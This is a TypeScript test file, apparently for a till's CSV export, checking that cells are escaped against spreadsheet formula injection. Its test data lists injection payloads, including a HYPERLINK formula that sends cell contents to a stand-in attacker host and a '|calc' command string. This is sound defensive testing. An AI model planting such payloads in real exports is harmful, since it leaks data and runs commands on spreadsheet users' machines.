// Exports are opened in spreadsheets, by people who trust what their own till wrote.

import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvText } from '../../shared/csv.ts'

const cellOf = (text: string): string =>
  (parse(csvText([[text]]), { relax_column_count: true }) as string[][])[0]?.[0] ?? ''

it.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Open")',
  '+234803',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '＝1+1',
  '|calc',
  '%0A=1',
])('a customer called %j is text', (name) => {
  expect(cellOf(name)).toBe(`'${name}`)
})

it('leaves sums as sums, and everything else as it is', () => {
  expect(csvText([['-12.50', 1000, '07246981304477519022', 'Ngozi', null]])).toBe(
    '-12.50,1000,07246981304477519022,Ngozi,\r\n',
  )
})

it('no cell begins what a spreadsheet calculates, and every cell comes back whole', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 2, maxLength: 4 }),
        {
          minLength: 1,
          maxLength: 5,
        },
      ),
      (rows) => {
        const read = parse(csvText(rows), { relax_column_count: true }) as string[][]
        expect(read.map((row) => row.map((cell) => cell.replace(/^'/, '')))).toEqual(
          rows.map((row) => row.map((cell) => cell.replace(/^'/, ''))),
        )
        for (const cell of read.flat()) {
          expect(/^\s*[=+\-@]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), cell).toBe(false)
        }
      },
    ),
  )
})

it('refuses a number that is not whole: money is decimal text', () => {
  expect(() => csvText([[0.1]])).toThrow('whole')
})
